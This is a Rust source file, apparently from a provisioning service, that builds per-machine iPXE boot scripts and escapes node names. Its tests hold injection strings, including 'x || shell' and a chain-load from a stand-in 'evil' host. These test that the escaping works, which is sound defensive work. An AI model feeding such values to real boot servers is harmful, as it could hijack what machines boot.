//! The per-machine iPXE script: what a machine boots is decided from its state each time it
//! asks, so there is nothing to regenerate when state changes.

use paddock_inventory::MacAddr;

use paddock_inspector::node::Node;

use crate::config::Discovery;

/// Renders `/boot/{mac}.ipxe` for a machine.
pub fn script(
    mac: MacAddr,
    node: Option<&Node>,
    discovery: &Discovery,
    public_url: &str,
) -> String {
    let self_url = format!("{public_url}/boot/{mac}.ipxe");
    match node.filter(|n| !n.inspecting()) {
        Some(n) => format!(
            "#!ipxe\n\
             echo Paddock: {who} ({mac}) is idle: booting from the local disk\n\
             sanboot --no-describe --drive 0x80 || exit\n",
            who = n.name.as_deref().map_or("node".into(), ipxe_text),
        ),
        None => {
            let why = if node.is_some() {
                "under introspection"
            } else {
                "unknown"
            };
            match (&discovery.kernel, &discovery.initrd) {
                (Some(kernel), Some(initrd)) => {
                    // BOOTIF names the NIC we booted from (pxelinux syntax: 01-<mac with dashes>);
                    // initrd=<name> is needed by EFI iPXE builds to hand the initrd over. The
                    // IPA callback argument lets an unmodified Ironic Python Agent ramdisk
                    // report to us too.
                    let bootif = format!("01-{}", mac.to_string().replace(':', "-"));
                    let agent_url = if discovery.agent_urls.is_empty() {
                        public_url.to_string()
                    } else {
                        discovery.agent_urls.join(",")
                    };
                    let extra = if discovery.cmdline.is_empty() {
                        String::new()
                    } else {
                        format!(" {}", discovery.cmdline)
                    };
                    format!(
                        "#!ipxe\n\
                         echo Paddock: {mac} is {why}: booting the discovery ramdisk\n\
                         kernel {kernel} initrd=initrd BOOTIF={bootif} paddock.url={agent_url} paddock.log=info ipa-inspection-callback-url={public_url}/v1/continue{extra} || goto retry\n\
                         initrd --name initrd {initrd} || goto retry\n\
                         boot || goto retry\n\
                         :retry\n\
                         echo Paddock: boot failed, retrying in 10 seconds\n\
                         sleep 10\n\
                         chain --replace {self_url}\n"
                    )
                }
                _ => format!(
                    "#!ipxe\n\
                     echo Paddock: {mac} is {why}, but no discovery ramdisk is configured\n\
                     echo Paddock: set [boot.discovery] kernel and initrd; retrying in 30 seconds\n\
                     sleep 30\n\
                     chain --replace {self_url}\n"
                ),
            }
        }
    }
}

/// Text that is safe anywhere in an iPXE script line: RFC 3986 unreserved characters pass,
/// every other byte is percent-encoded, so a newline, `${…}` (setting expansion), `#`, `||`,
/// `&&`, `:` or a space can never become script syntax. Names are validated on the way in;
/// this keeps a script safe even for text that was stored before that.
pub fn ipxe_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// The script served to an iPXE that asks for `autoexec.ipxe` or a generic script.
pub fn chain_script(public_url: &str) -> String {
    format!("#!ipxe\nchain {public_url}/boot/${{net0/mac}}.ipxe\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    const MAC: MacAddr = MacAddr([0x52, 0x54, 0, 0xab, 0, 1]);

    fn discovery() -> Discovery {
        Discovery {
            kernel: Some("http://p/k".into()),
            initrd: Some("http://p/i".into()),
            cmdline: "console=ttyS0".into(),
            agent_urls: Vec::new(),
        }
    }

    #[test]
    fn several_hosts_are_all_given_to_the_agent() {
        let d = Discovery {
            agent_urls: vec!["http://a".into(), "http://b".into()],
            ..discovery()
        };
        let s = script(MAC, None, &d, "http://a");
        assert!(s.contains(" paddock.url=http://a,http://b "), "{s}");
        assert!(
            s.contains("ipa-inspection-callback-url=http://a/v1/continue"),
            "{s}"
        );
    }

    #[test]
    fn unknown_machines_boot_the_discovery_ramdisk() {
        let s = script(MAC, None, &discovery(), "http://p");
        assert!(s.starts_with("#!ipxe\n"));
        assert!(s.contains("kernel http://p/k initrd=initrd BOOTIF=01-52-54-00-ab-00-01 paddock.url=http://p paddock.log=info ipa-inspection-callback-url=http://p/v1/continue console=ttyS0"), "{s}");
        assert!(s.contains("initrd --name initrd http://p/i"));
        assert!(s.contains("is unknown"));
    }

    #[test]
    fn untrusted_text_never_becomes_script_syntax() {
        let mut node = Node::new(uuid::Uuid::nil(), 0);
        for evil in [
            "r1\nshell\n#",
            "r1${net0/mac}",
            "x || shell",
            "a && chain http://evil/x",
            ":retry",
            "#!ipxe",
        ] {
            node.name = Some(evil.into());
            let s = script(MAC, Some(&node), &discovery(), "http://p");
            let lines: Vec<&str> = s.lines().collect();
            assert_eq!(lines.len(), 3, "{evil:?} added lines: {s}");
            assert!(!lines[1].contains("${") && !lines[1].contains("||"), "{s}");
            assert!(!lines[1].contains(" && ") && !lines[1].contains('#'), "{s}");
            assert!(lines[1].starts_with("echo Paddock: "), "{s}");
        }
        assert_eq!(ipxe_text("r1\n${x} #|"), "r1%0A%24%7Bx%7D%20%23%7C");
    }

    #[test]
    fn idle_machines_boot_locally() {
        use paddock_inspector::node::Introspection;
        use paddock_inspector::state::State;
        let mut node = Node::new(uuid::Uuid::nil(), 0);
        node.name = Some("rack1-u7".into());
        node.macs = vec![MAC];
        let s = script(MAC, Some(&node), &discovery(), "http://p");
        assert!(
            s.contains("sanboot --no-describe --drive 0x80 || exit"),
            "{s}"
        );
        assert!(!s.contains("kernel"));
        for (state, ramdisk) in [
            (State::Waiting, true),
            (State::Enrolling, true),
            (State::Finished, false),
            (State::Error, false),
        ] {
            node.introspection = Some(Introspection {
                state,
                started_at: Some(0),
                finished_at: None,
                error: None,
                manage_boot: true,
            });
            let s = script(MAC, Some(&node), &discovery(), "http://p");
            assert_eq!(s.contains("kernel http://p/k"), ramdisk, "{state:?}: {s}");
        }
    }

    #[test]
    fn missing_ramdisk_is_explained_and_retried() {
        let s = script(MAC, None, &Discovery::default(), "http://p");
        assert!(s.contains("no discovery ramdisk is configured"));
        assert!(s.contains("chain --replace http://p/boot/52:54:00:ab:00:01.ipxe"));
    }
}
